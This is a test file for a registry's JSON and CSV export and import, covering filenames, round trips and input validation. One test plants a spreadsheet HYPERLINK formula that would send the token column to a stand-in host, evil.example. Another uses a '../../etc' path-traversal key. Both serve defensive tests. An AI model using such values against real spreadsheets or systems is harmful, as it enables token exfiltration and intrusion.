import { describe, expect, it } from 'vitest';
import { exportFileName, exportRegistryCsv, exportRegistryJson } from '@/lib/user-groups/transfer/export-registry';
import { applyImport, importItems, previewImport } from '@/lib/user-groups/transfer/import-merge';
import { parseRegistryFile } from '@/lib/user-groups/transfer/import-rows';
import { messageText, text, verbatimText } from '@/lib/message-ref';
import { registrySchema, type Registry, type RegistryEntry } from '@/lib/storage/registry/registry-schema';
import { loadStorageFixture } from '../fixtures/storage/load';

/** Groups in a fixed order, to compare registries whatever their stored order. */
const byKey = (groups: readonly RegistryEntry[]) =>
  [...groups].sort((a, b) => `${a.environment}:${a.provided_id}`.localeCompare(`${b.environment}:${b.provided_id}`));

/** The stored example as the registry reads it (its rotation mark, written in English by an older version, is read as verbatim text). */
const registryV1 = registrySchema.parse(loadStorageFixture('user-group-registry.v1.json'));
const AT = new Date(2025, 10, 21, 9, 30);
const WORKSPACE = { name: 'Acme' };
const NOW = '2025-11-21T09:30:00.000Z';

/**
 * The fixture plus the awkward cases: quotes, commas, formula-like values, apostrophes, unicode. (A name
 * with a line break is refused by an import, like any control character: tested on its own below.)
 */
const awkward: Registry = {
  groups: [
    ...registryV1.groups,
    ...(
      [
        ['=HYPERLINK("http://x")', '+1 line'],
        ['Comma, "quoted", and more', '-leading-dash'],
        ['@at Ünïcødé 日本', 'id with spaces'],
        ["'=an apostrophe first", "'plain-apostrophe"],
      ] as const
    ).map(([name, id], i): RegistryEntry => ({
      team_id: 9000 + i,
      token: `ugt_awkward_${i}`,
      name,
      provided_id: id,
      environment: i % 2 ? 'Testing' : 'Customer',
      createdAt: '2025-05-05T05:05:05.000Z',
      lastRotatedAt: i === 0 ? '2025-06-06T06:06:06.000Z' : null,
      extra: {},
    })),
  ],
};

function roundTrip(text: string, into: Registry) {
  const parsed = parseRegistryFile(text);
  if (!parsed.ok) throw new Error(messageText(parsed.message));
  return previewImport(into, parsed, NOW);
}

describe('export', () => {
  it('names files by what they hold, SECRET (every token is in clear), the workspace and the local date', () => {
    expect(exportRegistryJson(awkward, AT, WORKSPACE).fileName).toBe('user-groups-SECRET-acme-2025-11-21.json');
    expect(exportRegistryCsv(awkward, AT, WORKSPACE).fileName).toBe('user-groups-SECRET-acme-2025-11-21.csv');
    expect(exportFileName('csv', AT, { name: '  Éclair & Co. / Review  ' })).toBe(
      'user-groups-SECRET-eclair-co-review-2025-11-21.csv',
    );
    expect(exportFileName('csv', AT, { name: '東京' })).toBe('user-groups-SECRET-workspace-2025-11-21.csv');
  });

  it('names an export of some groups (a selection) the same way: it holds their tokens in clear', () => {
    const some = { groups: awkward.groups.slice(0, 2) };
    const file = exportRegistryJson(some, AT, WORKSPACE);
    expect(file.fileName).toBe('user-groups-SECRET-acme-2025-11-21.json');
    expect(file.text).toContain(some.groups[0]!.token);
  });

  it('JSON names its workspace and holds every stored field, extra fields and rotation marks included', () => {
    const file = exportRegistryJson(registryV1, AT, WORKSPACE);
    expect(file.mimeType).toBe('application/json');
    expect(JSON.parse(file.text)).toEqual({
      format: 'review-companion.user-groups',
      version: 1,
      exportedAt: AT.toISOString(),
      workspace: WORKSPACE,
      groups: registryV1.groups,
    });
  });

  it('CSV has the documented columns and guards formula-like values', () => {
    const lines = exportRegistryCsv(awkward, AT, WORKSPACE).text.split('\r\n');
    expect(lines[0]).toBe('name,user_group_id,environment,token,team_id,created_at,last_rotated_at,issued_at');
    expect(lines[1]).toBe(
      'Acme Support,acme-support,Customer,ugt_9f2c4a7e1b3d5f60718293a4b5c6d7e8,1001,2025-01-15T09:30:00.000Z,2025-03-02T14:05:00.000Z,',
    );
    expect(lines[3]).toBe(
      `"'=HYPERLINK(""http://x"")","'+1 line",Customer,ugt_awkward_0,9000,2025-05-05T05:05:05.000Z,2025-06-06T06:06:06.000Z,`,
    );
  });

  it('CSV guards a formula-like name that contains a line break, so the token column cannot be pulled into a link', () => {
    const name = '=HYPERLINK("https://evil.example/?t="&D2,"x")\n';
    const [group] = registryV1.groups;
    if (!group) throw new Error('fixture');
    const text = exportRegistryCsv({ groups: [{ ...group, name }] }, AT, WORKSPACE).text;
    expect(text.split('\r\n')[1]).toMatch(/^"'=HYPERLINK/);
    const parsed = parseRegistryFile(text);
    // Read back, the guard is removed, and the line break is refused as any control character is.
    expect(parsed.ok && parsed.problems.map((problem) => messageText(problem.reason))).toEqual([
      'name: must not contain line breaks, tabs or other control characters',
    ]);
  });
});

describe('export → import round trip', () => {
  it('a JSON export imported into the same registry is unchanged for every group', () => {
    const preview = roundTrip(exportRegistryJson(awkward, AT, WORKSPACE).text, awkward);
    expect(preview).toEqual({ added: [], changed: [], kept: [], unchanged: awkward.groups.length, invalid: [] });
  });

  it('a CSV export imported into the same registry is unchanged for every group', () => {
    const preview = roundTrip(exportRegistryCsv(awkward, AT, WORKSPACE).text, awkward);
    expect(preview).toEqual({ added: [], changed: [], kept: [], unchanged: awkward.groups.length, invalid: [] });
  });

  it('an export lists the groups oldest first (the stored order follows storage parts), ties by environment and id', () => {
    const shuffled = { groups: [...awkward.groups].reverse() };
    const exported = (JSON.parse(exportRegistryJson(shuffled, AT, WORKSPACE).text) as { groups: RegistryEntry[] })
      .groups;
    const times = exported.map((group) => group.createdAt);
    expect(times).toEqual([...times].sort());
    expect(exported).toEqual(
      (JSON.parse(exportRegistryJson(awkward, AT, WORKSPACE).text) as { groups: RegistryEntry[] }).groups,
    );
  });

  it('a JSON export restores an emptied registry exactly', () => {
    const preview = roundTrip(exportRegistryJson(awkward, AT, WORKSPACE).text, { groups: [] });
    expect(preview.added).toHaveLength(awkward.groups.length);
    const { registry } = applyImport({ groups: [] }, importItems(preview));
    expect(byKey(registry.groups)).toEqual(byKey(awkward.groups));
  });

  it('a CSV export restores every token, name, id and time of an emptied registry', () => {
    const preview = roundTrip(exportRegistryCsv(awkward, AT, WORKSPACE).text, { groups: [] });
    const { registry } = applyImport({ groups: [] }, importItems(preview));
    const withoutJsonOnly = ({ extra: _extra, rotation: _rotation, ...rest }: RegistryEntry) => rest;
    expect(byKey(registry.groups).map(withoutJsonOnly)).toEqual(byKey(awkward.groups).map(withoutJsonOnly));
  });
});

describe('a rotation mark’s text in a backup file', () => {
  const [group] = registryV1.groups;
  if (!group) throw new Error('fixture');
  const fileWith = (message: unknown) =>
    JSON.stringify({
      ...JSON.parse(exportRegistryJson({ groups: [group] }, AT, WORKSPACE).text),
      groups: [{ ...group, rotation: { state: 'unknown', since: NOW, message } }],
    });
  const readMark = (message: unknown) => {
    const parsed = parseRegistryFile(fileWith(message));
    return parsed.ok ? { groups: parsed.groups.length, problems: parsed.problems.length } : undefined;
  };

  it('a named text of this version is read back as it was written', () => {
    const preview = roundTrip(fileWith(text('groupsRotationUnknown')), { groups: [] });
    expect(preview.added[0]?.entry.rotation?.message).toEqual(text('groupsRotationUnknown'));
  });

  it('an older export’s English words are read as verbatim text', () => {
    const preview = roundTrip(fileWith('Rotation outcome unknown'), { groups: [] });
    expect(preview.added[0]?.entry.rotation?.message).toEqual(verbatimText('Rotation outcome unknown'));
  });

  it('a file is not trusted: over-long words, text nested deeper than the background writes, or an odd key are refused as a row problem', () => {
    expect(readMark('x'.repeat(501))).toEqual({ groups: 0, problems: 1 });
    let deep = verbatimText('nested');
    for (let level = 0; level < 4; level += 1) deep = text('errorServiceRefused', deep);
    expect(readMark(deep)).toEqual({ groups: 0, problems: 1 });
    expect(readMark({ key: '../../etc' })).toEqual({ groups: 0, problems: 1 });
    expect(readMark('x'.repeat(500))).toEqual({ groups: 1, problems: 0 });
  });

  it('a refusal with the service’s words inside, as the background writes it, reads back as it was', () => {
    const refused = text('errorServiceRefused', verbatimText('No user group has this token'));
    expect(readMark(refused)).toEqual({ groups: 1, problems: 0 });
    expect(roundTrip(fileWith(refused), { groups: [] }).added[0]?.entry.rotation?.message).toEqual(refused);
  });
});

describe('token age (issuedAt) in backups', () => {
  const backup = JSON.stringify(loadStorageFixture('user-group-registry-export.issued-at.json'));

  it('a restore keeps each token’s issue date, and a group without one stays of unknown age (never "now")', () => {
    const preview = roundTrip(backup, { groups: [] });
    const { registry } = applyImport({ groups: [] }, importItems(preview));
    const byId = new Map(registry.groups.map((group) => [group.provided_id, group]));
    expect(byId.get('old')?.issuedAt).toBe('2026-08-18T00:00:00.000Z');
    expect(byId.get('unknown')).not.toHaveProperty('issuedAt');
  });

  it('JSON and CSV exports carry issuedAt, and restore it exactly', () => {
    const parsed = parseRegistryFile(backup);
    if (!parsed.ok) throw new Error(messageText(parsed.message));
    const { registry: stored } = applyImport({ groups: [] }, importItems(previewImport({ groups: [] }, parsed, NOW)));
    for (const text of [
      exportRegistryJson(stored, AT, WORKSPACE).text,
      exportRegistryCsv(stored, AT, WORKSPACE).text,
    ]) {
      const { registry } = applyImport({ groups: [] }, importItems(roundTrip(text, { groups: [] })));
      expect(byKey(registry.groups).map((group) => group.issuedAt)).toEqual(
        byKey(stored.groups).map((group) => group.issuedAt),
      );
    }
    expect(exportRegistryCsv(stored, AT, WORKSPACE).text).toContain(',2026-08-18T00:00:00.000Z\r\n');
  });

  it('a CSV written before issued_at existed still imports, every token of unknown age', () => {
    const old = [
      'name,user_group_id,environment,token,team_id,created_at,last_rotated_at',
      'Acme,acme,Customer,ugt_acme,1,2025-01-01T00:00:00.000Z,',
    ].join('\r\n');
    const { registry } = applyImport({ groups: [] }, importItems(roundTrip(old, { groups: [] })));
    expect(registry.groups).toHaveLength(1);
    expect(registry.groups[0]).not.toHaveProperty('issuedAt');
  });
});
